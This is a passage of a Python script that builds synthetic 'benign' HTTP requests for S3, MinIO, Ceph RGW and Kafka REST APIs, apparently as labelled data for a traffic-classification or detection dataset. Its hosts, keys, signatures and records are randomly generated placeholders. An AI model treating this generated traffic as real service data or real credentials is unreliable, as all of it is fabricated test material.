            params.append(("delimiter", "/"))
        if prefix or R.random() < 0.3:
            params.append(("prefix", prefix))
        if R.random() < 0.3:
            params.append(("continuation-token", b64(hexs(24) + "/" + rand_key())))
        if R.random() < 0.3:
            params.append(("start-after", rand_key()))
        if R.random() < 0.5:
            params.append(("encoding-type", "url"))
        if R.random() < 0.3:
            params.append(("fetch-owner", "true"))
        params.append(("max-keys", pick(["1000", "100", "1"])))
        params.sort()
        benign("s3-list-objects-v2", "GET", path + "?" + qs(params), s3_headers(client, host))


def benign_s3_presigned(n):
    for _ in range(n):
        bucket, key = pick(BUCKETS), rand_key()
        host, path = s3_loc(bucket, key)
        date = amz_date()
        params = [("X-Amz-Algorithm", "AWS4-HMAC-SHA256"),
                  ("X-Amz-Credential", "%s/%s/%s/s3/aws4_request" % (pick(ACCESS_KEYS), date[:8], pick(REGIONS))),
                  ("X-Amz-Date", date), ("X-Amz-Expires", pick(["300", "900", "3600", "604800"])),
                  ("X-Amz-SignedHeaders", "host")]
        if R.random() < 0.3:
            params.append(("response-content-disposition", 'inline; filename="%s"' % (
                key.split("/")[-1].encode("ascii", "ignore").decode() or "file")))
        if R.random() < 0.2:
            params.append(("x-id", "GetObject"))
        params.sort()
        params.append(("X-Amz-Signature", hexs(64)))
        uri = path + "?" + qs(params)
        if R.random() < 0.3:
            # browser uploading via presigned PUT
            body = small_body(pick(["csv", "json", "txt"]))
            hdrs = [["Host", host], ["User-Agent", pick(UA_BROWSER)], ["Accept", "*/*"],
                    ["Content-Type", pick(["text/csv", "application/json", "text/plain"])],
                    ["Origin", "https://app.example.net"], ["Referer", "https://app.example.net/files/upload"],
                    ["Sec-Fetch-Mode", "cors"], ["Sec-Fetch-Site", "cross-site"]]
            uri = uri.replace("x-id=GetObject", "x-id=PutObject")
            benign("s3-presigned-put", "PUT", uri, hdrs, body)
        else:
            hdrs = [["Host", host], ["User-Agent", pick(UA_BROWSER + ["curl/8.5.0", "Wget/1.21.4", "python-requests/2.31.0"])],
                    ["Accept", "*/*"], ["Accept-Encoding", "gzip, deflate, br"]]
            if R.random() < 0.5:
                hdrs.append(["Referer", "https://app.example.net/shared/%s" % hexs(12)])
            benign("s3-presigned-get", "GET", uri, hdrs)


def benign_s3_multipart(n):
    i = 0
    while i < n:
        bucket, key = pick(BUCKETS), rand_key()
        host, path = s3_loc(bucket, key)
        client = pick(["gov2", "boto3", "cli", "minio", "mc", "rclone"])
        upload_id = pick([b64(uuid4() + "." + uuid4()).rstrip("="), "2~" + b64(hexs(24))[:32],
                          uuid4().replace("-", "")])
        stage = i % 3
        if stage == 0:
            hdrs = s3_headers(client, host, ctype=pick(["application/octet-stream", "application/gzip", "video/mp4"]),
                              extra=[["x-amz-meta-mtime", "%d.%09d" % (1715900000 + R.randint(0, 99999), R.randint(0, 10 ** 9))]])
            benign("s3-create-multipart", "POST", path + "?uploads=", hdrs)
        elif stage == 1:
            part = "".join(pick("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(R.randint(200, 600)))
            hdrs = s3_headers(client, host, body=part, ctype="application/octet-stream", extra=[["Content-MD5", md5b64(part)]])
            benign("s3-upload-part", "PUT", path + "?partNumber=%d&uploadId=%s" % (R.randint(1, 40), q(upload_id)),
                   hdrs, part)
        else:
            parts = []
            for pn in range(1, R.randint(2, 6)):
                parts.append("<Part><ETag>\"%s\"</ETag><PartNumber>%d</PartNumber></Part>" % (hexs(32), pn))
            body = ('<?xml version="1.0" encoding="UTF-8"?>\n' if R.random() < 0.5 else "") + \
                '<CompleteMultipartUpload xmlns="http://s3.amazonaws.com/doc/2006-03-01/">' + "".join(parts) + \
                "</CompleteMultipartUpload>"
            hdrs = s3_headers(client, host, body=body, ctype="application/xml")
            benign("s3-complete-multipart", "POST", path + "?uploadId=%s" % q(upload_id), hdrs, body)
        i += 1


def benign_s3_delete_objects(n):
    for _ in range(n):
        bucket = pick(BUCKETS)
        host, path = s3_loc(bucket)
        objs = "".join("<Object><Key>%s</Key>%s</Object>" % (
            xesc(rand_key()), ("<VersionId>%s</VersionId>" % uuid4()) if R.random() < 0.2 else "")
            for _ in range(R.randint(2, 8)))
        body = '<?xml version="1.0" encoding="UTF-8"?>\n<Delete xmlns="http://s3.amazonaws.com/doc/2006-03-01/">%s<Quiet>%s</Quiet></Delete>' % (
            objs, pick(["true", "false"]))
        hdrs = s3_headers(pick(["gov2", "boto3", "mc", "rclone"]), host, body=body, ctype="application/xml",
                          extra=[["Content-MD5", md5b64(body)]])
        benign("s3-delete-objects", "POST", path + "?delete=", hdrs, body)


def benign_s3_copy(n):
    for _ in range(n):
        sb, sk = pick(BUCKETS), rand_key()
        db, dk = pick(BUCKETS), "archive/" + rand_key()
        host, path = s3_loc(db, dk)
        extra = [["x-amz-copy-source", "/%s/%s" % (sb, qkey(sk)) + (("?versionId=" + uuid4()) if R.random() < 0.2 else "")]]
        if R.random() < 0.4:
            extra.append(["x-amz-metadata-directive", pick(["COPY", "REPLACE"])])
            extra.append(["x-amz-meta-archived-at", iso_time()])
        if R.random() < 0.3:
            extra.append(["x-amz-copy-source-if-match", '"%s"' % hexs(32)])
        benign("s3-copy-object", "PUT", path, s3_headers(pick(["gov2", "boto3", "cli", "mc", "rclone"]), host, extra=extra))


# ---------------------------------------------------------------------------
# benign: bucket configuration documents, S3 Select
# ---------------------------------------------------------------------------

def policy_doc(bucket):
    stmts = []
    for _ in range(R.randint(1, 3)):
        kind = R.randrange(5)
        if kind == 0:
            stmts.append({"Sid": "PublicReadAssets", "Effect": "Allow", "Principal": "*",
                          "Action": ["s3:GetObject"], "Resource": ["arn:aws:s3:::%s/public/*" % bucket]})
        elif kind == 1:
            stmts.append({"Sid": "AllowUserHomePrefix", "Effect": "Allow", "Principal": {"AWS": ["*"]},
                          "Action": ["s3:ListBucket"], "Resource": ["arn:aws:s3:::%s" % bucket],
                          "Condition": {"StringLike": {"s3:prefix": ["home/${aws:username}/*", "home/${aws:username}"]}}})
        elif kind == 2:
            stmts.append({"Sid": "DenyInsecureTransport", "Effect": "Deny", "Principal": "*", "Action": "s3:*",
                          "Resource": ["arn:aws:s3:::%s" % bucket, "arn:aws:s3:::%s/*" % bucket],
                          "Condition": {"Bool": {"aws:SecureTransport": "false"}}})
        elif kind == 3:
            stmts.append({"Effect": "Allow", "Principal": {"AWS": ["arn:aws:iam::%012d:role/%s" % (R.randint(10 ** 11, 10 ** 12 - 1),
                                                                                                  pick(["loki-writer", "velero", "thanos-store"]))]},
                          "Action": ["s3:PutObject", "s3:GetObject", "s3:DeleteObject", "s3:AbortMultipartUpload"],
                          "Resource": ["arn:aws:s3:::%s/*" % bucket]})
        else:
            stmts.append({"Sid": "OfficeOnly", "Effect": "Allow", "Principal": "*", "Action": ["s3:GetObject"],
                          "Resource": ["arn:aws:s3:::%s/*" % bucket],
                          "Condition": {"IpAddress": {"aws:SourceIp": ["10.0.0.0/8", "192.168.0.0/16"]},
                                        "StringEquals": {"s3:ExistingObjectTag/classification": "internal"}}})
    return jdump({"Version": "2012-10-17", "Statement": stmts}, pretty=R.random() < 0.5)


def lifecycle_doc():
    rules = []
    for i in range(R.randint(1, 3)):
        pre = pick(["logs/", "tmp/", "loki/chunks/", "", "exports/daily/", "multipart-scratch/"])
        inner = "<ID>%s</ID><Filter><Prefix>%s</Prefix></Filter><Status>Enabled</Status>" % (
            pick(["expire-old-logs", "cleanup tmp", "transition-to-ia", "abort-incomplete-mpu"]) + "-%d" % i, pre)
        inner += pick(["<Expiration><Days>%d</Days></Expiration>" % R.randint(7, 400),
                       "<NoncurrentVersionExpiration><NoncurrentDays>%d</NoncurrentDays></NoncurrentVersionExpiration>" % R.randint(1, 90),
                       "<AbortIncompleteMultipartUpload><DaysAfterInitiation>%d</DaysAfterInitiation></AbortIncompleteMultipartUpload>" % R.randint(1, 7),
                       "<Transition><Days>30</Days><StorageClass>WARM-TIER</StorageClass></Transition>"])
        rules.append("<Rule>%s</Rule>" % inner)
    return '<?xml version="1.0" encoding="UTF-8"?><LifecycleConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/">%s</LifecycleConfiguration>' % "".join(rules)


def cors_doc():
    rules = []
    for _ in range(R.randint(1, 2)):
        origins = "".join("<AllowedOrigin>%s</AllowedOrigin>" % o for o in
                          R.sample(["https://app.example.net", "https://*.corp.example.net", "*", "http://localhost:3000"], 2))
        methods = "".join("<AllowedMethod>%s</AllowedMethod>" % m for m in R.sample(["GET", "PUT", "POST", "HEAD", "DELETE"], 3))
        rules.append("<CORSRule>%s%s<AllowedHeader>*</AllowedHeader><ExposeHeader>ETag</ExposeHeader>"
                     "<ExposeHeader>x-amz-request-id</ExposeHeader><MaxAgeSeconds>%d</MaxAgeSeconds></CORSRule>" % (
                         origins, methods, pick([600, 3000, 86400])))
    return '<CORSConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/">%s</CORSConfiguration>' % "".join(rules)


def tagging_doc():
    tags = [("project", pick(["atlas", "zephyr"])), ("owner", pick(FIRST) + "@example.com"),
            ("cost-center", "CC-%d" % R.randint(1000, 9999)), ("retention", pick(["7y", "90d"])),
            ("description", pick(["Q1 close <draft>", "from: legacy NAS (\\\\fs01\\share)", "A&B merger docs"]))]
    R.shuffle(tags)
    return '<?xml version="1.0" encoding="UTF-8"?><Tagging xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><TagSet>%s</TagSet></Tagging>' % "".join(
        "<Tag><Key>%s</Key><Value>%s</Value></Tag>" % (xesc(k), xesc(v)) for k, v in tags[:R.randint(1, 4)])


def notification_doc():
    arn = pick(["arn:minio:sqs::primary:webhook", "arn:minio:sqs::_:kafka", "arn:minio:sqs::events:nats",
                "arn:minio:sqs::audit:amqp", "arn:aws:sns:default::thumbnail-topic"])
    ev = "".join("<Event>%s</Event>" % e for e in R.sample(["s3:ObjectCreated:*", "s3:ObjectRemoved:*",
                                                           "s3:ObjectCreated:Put", "s3:ObjectAccessed:Get",
                                                           "s3:ObjectCreated:CompleteMultipartUpload"], 2))
    filt = "<Filter><S3Key><FilterRule><Name>prefix</Name><Value>%s</Value></FilterRule><FilterRule><Name>suffix</Name><Value>%s</Value></FilterRule></S3Key></Filter>" % (
        pick(["images/", "uploads/", "incoming/2024/"]), pick([".jpg", ".csv", ".parquet", ".tar.gz"]))
    tag = "TopicConfiguration" if ":sns:" in arn else "QueueConfiguration"
    inner = "Topic" if tag == "TopicConfiguration" else "Queue"
    return '<NotificationConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><%s><Id>%s</Id><%s>%s</%s>%s%s</%s></NotificationConfiguration>' % (
        tag, pick(["thumbnailer", "etl-trigger", "audit"]), inner, arn, inner, ev, filt, tag)


def replication_doc(bucket):
    return ('<ReplicationConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Role>arn:minio:replication::%s:%s</Role>'
            '<Rule><ID>%s</ID><Status>Enabled</Status><Priority>1</Priority><DeleteMarkerReplication><Status>Enabled</Status></DeleteMarkerReplication>'
            '<Filter><Prefix>%s</Prefix></Filter><Destination><Bucket>arn:aws:s3:::%s</Bucket><StorageClass>STANDARD</StorageClass></Destination></Rule>'
            '</ReplicationConfiguration>') % (uuid4(), bucket + "-dr", "replicate-%s" % hexs(6),
                                               pick(["", "critical/", "db/"]), bucket + "-dr")


def benign_s3_config(n):
    kinds = ["policy", "policy", "lifecycle", "lifecycle", "cors", "tagging", "tagging", "versioning", "notification",
             "notification", "replication", "encryption", "object-lock", "get-policy"]
    for i in range(n):
        kind = kinds[i % len(kinds)]
        bucket = pick(BUCKETS)
        host, path = s3_loc(bucket)
        client = pick(["gov2", "boto3", "cli", "mc"])
        if kind == "policy":
            body = policy_doc(bucket)
            benign("s3-put-bucket-policy", "PUT", path + "?policy=", s3_headers(client, host, body=body, ctype="application/json"), body)
        elif kind == "lifecycle":
            body = lifecycle_doc()
            benign("s3-put-lifecycle", "PUT", path + "?lifecycle=",
                   s3_headers(client, host, body=body, ctype="application/xml", extra=[["Content-MD5", md5b64(body)]]), body)
        elif kind == "cors":
            body = cors_doc()
            benign("s3-put-cors", "PUT", path + "?cors=",
                   s3_headers(client, host, body=body, ctype="application/xml", extra=[["Content-MD5", md5b64(body)]]), body)
        elif kind == "tagging":
            body = tagging_doc()
            if R.random() < 0.5:
                host, path = s3_loc(bucket, rand_key(), host)
            benign("s3-put-tagging", "PUT", path + "?tagging=", s3_headers(client, host, body=body, ctype="application/xml"), body)
        elif kind == "versioning":
            body = '<VersioningConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Status>%s</Status></VersioningConfiguration>' % pick(["Enabled", "Suspended"])
            benign("s3-put-versioning", "PUT", path + "?versioning=", s3_headers(client, host, body=body, ctype="application/xml"), body)
        elif kind == "notification":
            body = notification_doc()
            benign("s3-put-notification", "PUT", path + "?notification=", s3_headers(client, host, body=body, ctype="application/xml"), body)
        elif kind == "replication":
            body = replication_doc(bucket)
            benign("s3-put-replication", "PUT", path + "?replication=", s3_headers("mc", host, body=body, ctype="application/xml"), body)
        elif kind == "encryption":
            body = ('<ServerSideEncryptionConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Rule><ApplyServerSideEncryptionByDefault>'
                    '<SSEAlgorithm>%s</SSEAlgorithm></ApplyServerSideEncryptionByDefault></Rule></ServerSideEncryptionConfiguration>') % pick(["AES256", "aws:kms"])
            benign("s3-put-encryption", "PUT", path + "?encryption=", s3_headers(client, host, body=body, ctype="application/xml"), body)
        elif kind == "object-lock":
            body = ('<ObjectLockConfiguration xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><ObjectLockEnabled>Enabled</ObjectLockEnabled>'
                    '<Rule><DefaultRetention><Mode>%s</Mode><Days>%d</Days></DefaultRetention></Rule></ObjectLockConfiguration>') % (
                pick(["GOVERNANCE", "COMPLIANCE"]), pick([30, 365, 2555]))
            benign("s3-put-object-lock", "PUT", path + "?object-lock=", s3_headers(client, host, body=body, ctype="application/xml"), body)
        else:
            sub = pick(["policy", "lifecycle", "cors", "tagging", "versioning", "notification", "replication", "acl", "policyStatus"])
            benign("s3-get-bucket-" + sub.lower(), "GET", path + "?%s=" % sub, s3_headers(client, host))


SELECT_SQL = [
    "SELECT s.name FROM S3Object s WHERE s.age > 30",
    "SELECT * FROM S3Object LIMIT 10",
    "SELECT COUNT(*) FROM S3Object s WHERE s.status = 'FAILED'",
    "SELECT s._1, s._3 FROM S3Object s WHERE CAST(s._2 AS INT) >= 500",
    "SELECT s.user.name, s.user.email FROM S3Object[*].records[*] s WHERE s.country IN ('DE', 'FR', 'NL')",
    "SELECT SUM(CAST(s.amount AS FLOAT)) FROM S3Object s WHERE s.\"order date\" BETWEEN '2024-01-01' AND '2024-03-31'",
    "select s.id, s.title from s3object s where s.title like '%kubernetes%'",
    "SELECT s.id FROM S3Object s WHERE s.email = '' OR s.email IS NULL",
    "SELECT AVG(CAST(s.latency_ms AS DECIMAL)) FROM S3Object s WHERE s.path LIKE '/api/v1/%'",
    "SELECT s.level, s.msg FROM S3Object s WHERE s.level <> 'debug' AND UTCNOW() > TO_TIMESTAMP(s.ts)",
    "SELECT MAX(CAST(s.price AS FLOAT)), MIN(CAST(s.price AS FLOAT)) FROM S3Object s",
    "SELECT LOWER(s.sku), SUBSTRING(s.description, 1, 40) FROM S3Object s WHERE s.stock < 5",
    "SELECT s.* FROM S3Object s WHERE s.\"Customer Name\" = 'O''Brien'",
    "SELECT COALESCE(s.region, 'unknown') FROM S3Object s WHERE CHAR_LENGTH(s.region) <= 3",
    "SELECT s.tenant, s.bytes FROM S3Object s WHERE NOT (s.tenant = 'internal') AND s.bytes > 1048576",
]


def benign_s3_select(n):
    for i in range(n):
        bucket, host = pick(BUCKETS), pick(S3_HOSTS)
        key = pick(["exports/customers-2024-05.csv", "warehouse/orders/part-0001.csv.gz", "logs/app/2024/05/17/events.json",
                    "reports/sales q1.csv", "raw/iot/readings.parquet"])
        host, path = s3_loc(bucket, key, host)
        expr = SELECT_SQL[i % len(SELECT_SQL)]
        if key.endswith(".parquet"):
            inp = "<Parquet/>"
        elif ".json" in key:
            inp = "<JSON><Type>%s</Type></JSON>" % pick(["LINES", "DOCUMENT"])
        else:
            inp = "<CSV><FileHeaderInfo>%s</FileHeaderInfo><RecordDelimiter>\\n</RecordDelimiter><FieldDelimiter>,</FieldDelimiter><QuoteCharacter>\"</QuoteCharacter></CSV>" % pick(["USE", "NONE"])
        comp = "GZIP" if key.endswith(".gz") else "NONE"
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n<SelectObjectContentRequest xmlns="http://s3.amazonaws.com/doc/2006-03-01/">'
                '<Expression>%s</Expression><ExpressionType>SQL</ExpressionType><InputSerialization><CompressionType>%s</CompressionType>%s'
                '</InputSerialization><OutputSerialization>%s</OutputSerialization><RequestProgress><Enabled>%s</Enabled></RequestProgress>'
                '</SelectObjectContentRequest>') % (xesc(expr), comp, inp, pick(["<JSON/>", "<CSV/>", "<JSON><RecordDelimiter>\\n</RecordDelimiter></JSON>"]),
                                                    pick(["true", "false"]))
        benign("s3-select", "POST", path + "?select=&select-type=2",
               s3_headers(pick(["gov2", "boto3", "minio", "mc"]), host, body=body, ctype="application/xml"), body)
    # an internal reporting app that wraps S3 Select with filter parameters
    for expr in ["age > 30 AND country = 'DE'", "status = 'FAILED'", "name LIKE 'Mc%'", "amount BETWEEN 10 AND 99.5"]:
        host = "reports-api.analytics.svc.cluster.local:8080"
        uri = "/api/v1/reports/query?bucket=%s&key=%s&where=%s&limit=%d" % (
            pick(BUCKETS), q("exports/customers-2024-05.csv"), q(expr), pick([50, 100, 500]))
        benign("reports-select-wrapper", "GET", uri, api_headers(host, auth=bearer(), ua=pick(UA_BROWSER)))


# ---------------------------------------------------------------------------
# benign: MinIO admin API and console, health probes, Ceph RGW topics
# ---------------------------------------------------------------------------

CONSOLE_HOSTS = ["minio-console.storage.svc.cluster.local:9090", "console.minio.corp.example.net",
                 "minio-console.example.net"]
MADMIN_UA = ["MinIO (linux; amd64) madmin-go/3.0.50 mc/RELEASE.2024-05-09T17-04-24Z",
             "MinIO (linux; amd64) madmin-go/3.0.52 operator/v5.0.15"]


def madmin_headers(host, body=None, ctype=None):
    auth, date = sigv4_auth(host, signed="host;x-amz-content-sha256;x-amz-date")
    h = [["Host", host], ["User-Agent", pick(MADMIN_UA)], ["Authorization", auth]]
    if ctype:
        h.append(["Content-Type", ctype])
    h += [["X-Amz-Content-Sha256", sha256hex(body or "")], ["X-Amz-Date", date], ["Accept-Encoding", "gzip"]]
    return h


def benign_minio_admin(n):
    for i in range(n):
        host = pick(S3_HOSTS[:3])
        k = i % 12
        if k == 0:
            benign("minio-admin-info", "GET", "/minio/admin/v3/info", madmin_headers(host))
        elif k == 1:
            benign("minio-admin-list-users", "GET", "/minio/admin/v3/list-users", madmin_headers(host))
        elif k == 2:
            name = pick(["readonly-logs", "loki-rw", "team-data-eng", "velero-backup"])
            bucket = pick(BUCKETS)
            body = jdump({"Version": "2012-10-17", "Statement": [
                {"Effect": "Allow", "Action": ["s3:GetBucketLocation", "s3:ListBucket"], "Resource": ["arn:aws:s3:::%s" % bucket]},
                {"Effect": "Allow", "Action": ["s3:GetObject", "s3:PutObject"], "Resource": ["arn:aws:s3:::%s/*" % bucket]}]})
            benign("minio-admin-add-policy", "PUT", "/minio/admin/v3/add-canned-policy?name=" + q(name),
                   madmin_headers(host, body, "application/json"), body)
        elif k == 3:
            benign("minio-admin-set-policy", "PUT", "/minio/admin/v3/set-user-or-group-policy?policyName=%s&userOrGroup=%s&isGroup=%s" % (
                q(pick(["readwrite", "readonly", "diagnostics"])), q(pick(["cn=data-eng,ou=groups,dc=corp,dc=example,dc=net", pick(FIRST)])),
                pick(["true", "false"])), madmin_headers(host))
        elif k == 4:
            benign("minio-admin-ldap-entities", "GET", "/minio/admin/v3/idp/ldap/policy-entities?%s" % qs(
                [("user", "uid=%s,ou=people,dc=corp,dc=example,dc=net" % pick(["alice", "bob", "jdoe"])),
                 ("policy", pick(["readwrite", "consoleAdmin"]))]), madmin_headers(host))
        elif k == 5:
            benign("minio-admin-datausage", "GET", "/minio/admin/v3/datausageinfo?capacity=true", madmin_headers(host))
        elif k == 6:
            benign("minio-admin-get-config", "GET", "/minio/admin/v3/get-config-kv?key=" + q(pick(
                ["notify_webhook:primary", "notify_kafka", "identity_openid", "api", "scanner"])), madmin_headers(host))
        elif k == 7:
            benign("minio-admin-heal-status", "POST", "/minio/admin/v3/heal/%s?clientToken=%s&forceStart=false" % (
                pick(BUCKETS), uuid4()), madmin_headers(host))
        elif k == 8:
            benign("minio-health", "GET", pick(["/minio/health/live", "/minio/health/ready", "/minio/health/cluster?maintenance=true"]),
                   [["Host", host.split(":")[0] + ":9000"], ["User-Agent", "kube-probe/1.29"], ["Accept", "*/*"],
                    ["Connection", "close"]])
        elif k == 9:
            benign("minio-metrics", "GET", pick(["/minio/v2/metrics/cluster", "/minio/v2/metrics/node", "/minio/v2/metrics/bucket"]),
                   [["Host", host], ["User-Agent", "Prometheus/2.51.2"],
                    ["Accept", "application/openmetrics-text;version=1.0.0,application/openmetrics-text;version=0.0.1;q=0.75,text/plain;version=0.0.4;q=0.5,*/*;q=0.1"],
                    ["Accept-Encoding", "gzip"], ["Authorization", bearer()], ["X-Prometheus-Scrape-Timeout-Seconds", "10"]])
        elif k == 10:
            benign("minio-admin-trace", "GET", "/minio/admin/v3/trace?s3=true&internal=false&threshold=%dms&err=%s" % (
                pick([0, 100, 500]), pick(["true", "false"])), madmin_headers(host))
        else:
            benign("minio-admin-top-locks", "GET", "/minio/admin/v3/top/locks?count=10&stale=false", madmin_headers(host))


def benign_minio_console(n):
    for i in range(n):
        host = pick(CONSOLE_HOSTS)
        k = i % 10
        bucket = pick(BUCKETS)
        if k == 0:
            prefix = pick(["", "logs/2024/05/", "fotos/Urlaub München 2023/", "home/%s/" % pick(FIRST), "exports/customers (copy)"])
            uri = "/api/v1/buckets/%s/objects?prefix=%s%s" % (bucket, q(b64(prefix)) if prefix else "",
                                                               pick(["", "&with_versions=true", "&with_metadata=true"]))
            benign("console-list-objects", "GET", uri, browser_headers(host, "/browser/%s" % bucket, True))
        elif k == 1:
            key = rand_key()
            uri = "/api/v1/buckets/%s/objects/download?prefix=%s" % (bucket, q(b64(key)))
            benign("console-download", "GET", uri, browser_headers(host, "/browser/%s/%s" % (bucket, q(b64(key))), False,
                                                                      accept="*/*"))
        elif k == 2:
            body = jdump({"accessKey": pick(["console-admin", "alice", "ops-team"]), "secretKey": b64(hexs(20))[:28]})
            benign("console-login", "POST", "/api/v1/login", browser_headers(host, "/login", True, cookie="",
                                                                             ctype="application/json"), body)
        elif k == 3:
            benign("console-session", "GET", "/api/v1/session", browser_headers(host, "/browser", True))
        elif k == 4:
            body = jdump({"configuration": {"arn": pick(["arn:minio:sqs::primary:webhook", "arn:minio:sqs::_:kafka"]),
                                            "events": R.sample(["put", "delete", "get", "replica", "ilm", "scanner"], 2),
                                            "prefix": pick(["", "images/", "incoming/"]), "suffix": pick(["", ".jpg", ".csv"])},
                          "ignoreExisting": True})
            benign("console-bucket-events", "POST", "/api/v1/buckets/%s/events" % bucket,
                   browser_headers(host, "/buckets/%s/admin/events" % bucket, True, ctype="application/json"), body)
        elif k == 5:
            body = jdump({"service": "webhook", "account_id": pick(["thumbnailer", "audit", "etl"]),
                          "properties": {"endpoint": pick(["http://thumbnailer.media.svc.cluster.local:8080/minio/events",
                                                           "https://hooks.corp.example.net/minio",
                                                           "http://broker-ingress.knative-eventing.svc.cluster.local/media/default"]),
                                         "auth_token": "", "queue_limit": "10000", "queue_dir": "/tmp/events"}})
            benign("console-notification-endpoint", "POST", "/api/v1/admin/notification_endpoints",
                   browser_headers(host, "/settings/notifications/add/webhook", True, ctype="application/json"), body)
        elif k == 6:
            body = jdump({"accessKey": "repl-" + hexs(6), "secretKey": b64(hexs(30))[:40], "sourceBucket": bucket,
                          "targetURL": pick(["https://minio-dr.backup.svc.cluster.local:9000", "https://s3.dr.example.net",
                                             "http://minio.minio.svc:9000"]),
                          "targetBucket": bucket + "-dr", "region": "", "syncMode": pick(["async", "sync"]),
                          "bandwidth": pick([0, 104857600]), "healthCheckPeriod": 60})
            benign("console-remote-bucket", "POST", "/api/v1/remote-buckets",
                   browser_headers(host, "/buckets/%s/admin/replication" % bucket, True, ctype="application/json"), body)
        elif k == 7:
            benign("console-users", "GET", "/api/v1/users?offset=0&limit=%d" % pick([10, 50]), browser_headers(host, "/identity/users", True))
        elif k == 8:
            body = jdump({"name": bucket + "-" + pick(["new", "staging", "2024"]), "versioning": {"enabled": True},
                          "locking": False, "quota": {"enabled": True, "quota_type": "hard", "amount": 1099511627776}})
            benign("console-make-bucket", "POST", "/api/v1/buckets", browser_headers(host, "/buckets/add-bucket", True,
                                                                                   ctype="application/json"), body)
        else:
            benign("console-static", "GET", pick(["/", "/browser", "/static/js/main.%s.js" % hexs(8), "/static/css/main.%s.css" % hexs(8),
                                                  "/manifest.json", "/favicon-32x32.png"]),
                   browser_headers(host, "/", False))


def benign_rgw_topics(n):
    for _ in range(n):
        host = pick(["rook-ceph-rgw-objectstore.rook-ceph.svc:80", "rgw.ceph.internal.example.net"])
        name = pick(["thumbnail-events", "audit-topic", "etl-new-files", "ml-ingest"])
        endpoint = pick(["http://broker-ingress.knative-eventing.svc.cluster.local/media/default",
                         "kafka://my-cluster-kafka-bootstrap.kafka.svc:9092",
                         "amqp://user:pass@rabbitmq.messaging.svc.cluster.local:5672/vhost1",
                         "https://hooks.corp.example.net/rgw?source=ceph&tenant=prod"])
        pairs = [("Action", "CreateTopic"), ("Name", name), ("Attributes.entry.1.key", "push-endpoint"),
                 ("Attributes.entry.1.value", endpoint), ("Attributes.entry.2.key", "persistent"),
                 ("Attributes.entry.2.value", "true")]
        if endpoint.startswith("amqp"):
            pairs += [("Attributes.entry.3.key", "amqp-exchange"), ("Attributes.entry.3.value", "ceph.events")]
        if endpoint.startswith("kafka"):
            pairs += [("Attributes.entry.3.key", "kafka-ack-level"), ("Attributes.entry.3.value", "broker")]
        body = qs(pairs)
        hdrs = s3_headers("boto3", host, body=body, ctype="application/x-www-form-urlencoded; charset=utf-8")
        benign("rgw-create-topic", "POST", "/", hdrs, body)


# ---------------------------------------------------------------------------
# benign: Kafka REST proxy, schema registry
# ---------------------------------------------------------------------------

KAFKA_REST = ["kafka-rest.kafka.svc.cluster.local:8082", "rest-proxy.confluent.svc:8082", "kafka-rest.corp.example.net",
              "redpanda-0.redpanda.redpanda.svc.cluster.local:8082"]
SCHEMA_REG = ["schema-registry.kafka.svc.cluster.local:8081", "schemaregistry.confluent.svc:8081",
              "redpanda.redpanda.svc.cluster.local:8081"]
TOPICS = ["orders.v1", "payments", "user-events", "audit.log", "minio-bucket-events", "iot.telemetry.raw", "email-outbox",
          "cdc.public.customers", "search-index-updates", "chat-messages", "_confluent-monitoring-redacted"]


def kafka_value():
    k = R.randrange(6)
    if k == 0:
        return {"orderId": "ORD-%d" % R.randint(10 ** 5, 10 ** 6), "items": [{"sku": "A-%d" % R.randint(100, 999), "qty": R.randint(1, 4),
                                                                          "price": round(R.uniform(1, 300), 2)}],
                "currency": pick(["EUR", "USD"]), "customer": {"name": pick(FIRST).title(), "note": pick(LOREM)}}
    if k == 1:
        return {"EventName": "s3:ObjectCreated:Put", "Key": "%s/%s" % (pick(BUCKETS), rand_key()),
                "Records": [{"eventVersion": "2.0", "eventSource": "minio:s3", "awsRegion": "",
                             "eventTime": iso_time(), "eventName": "s3:ObjectCreated:Put",
                             "s3": {"bucket": {"name": pick(BUCKETS), "arn": "arn:aws:s3:::%s" % pick(BUCKETS)},
                                    "object": {"key": qkey(rand_key()), "size": R.randint(100, 10 ** 8), "eTag": hexs(32),
                                               "contentType": "application/octet-stream", "sequencer": hexs(16).upper()}},
                             "source": {"host": "10.42.%d.%d" % (R.randint(0, 9), R.randint(2, 250)), "port": "",
                                        "userAgent": pick(UA_MINIO_GO)}}]}
    if k == 2:
        return {"deviceId": "sensor-%04d" % R.randint(1, 5000), "ts": 1715900000000 + R.randint(0, 10 ** 8),
                "temp_c": round(R.uniform(-20, 45), 2), "humidity": R.randint(10, 95), "fw": "2.4.%d" % R.randint(0, 9)}
    if k == 3:
        return {"before": None, "after": {"id": R.randint(1, 99999), "email": "%s@example.org" % pick(["j.doe", "anna", "m.rossi"]),
                                          "display_name": pick(["Anna <Support>", "O'Connor, Sean", "Zoë & Co", "Dr. Who?"])},
                "source": {"connector": "postgresql", "db": "crm", "table": "customers", "lsn": R.randint(10 ** 8, 10 ** 9)},
                "op": pick(["c", "u", "r"]), "ts_ms": 1715900000000 + R.randint(0, 10 ** 8)}
    if k == 4:
        return {"room": pick(["#general", "#ops", "#random"]), "from": pick(FIRST),
                "text": pick(LOREM + ["<3 thanks team", "use `kubectl get pods -n kafka` to check", "is 2 < 3? yes :)",
                                      "The SELECT in the report is slow, can someone look?"]),
                "sentAt": iso_time()}
    return {"to": "%s@example.com" % pick(FIRST).replace(" ", ""), "subject": pick(["Your invoice #%d" % R.randint(1000, 9999),
                                                                                   "Password reset requested", "Welcome aboard!"]),
            "template": pick(["invoice-v2", "reset-password", "welcome"]), "locale": pick(["en", "de", "fr", "ja"])}


def benign_kafka(n):
    for i in range(n):
        host = pick(KAFKA_REST)
        topic = pick(TOPICS[:-1])
        k = i % 10
        if k in (0, 1, 2):
            recs = [{"key": pick([None, "ORD-%d" % R.randint(1, 99999), uuid4()]), "value": kafka_value()} for _ in range(R.randint(1, 3))]
            body = jdump({"records": recs})
            benign("kafka-rest-produce-json", "POST", "/topics/%s" % topic,
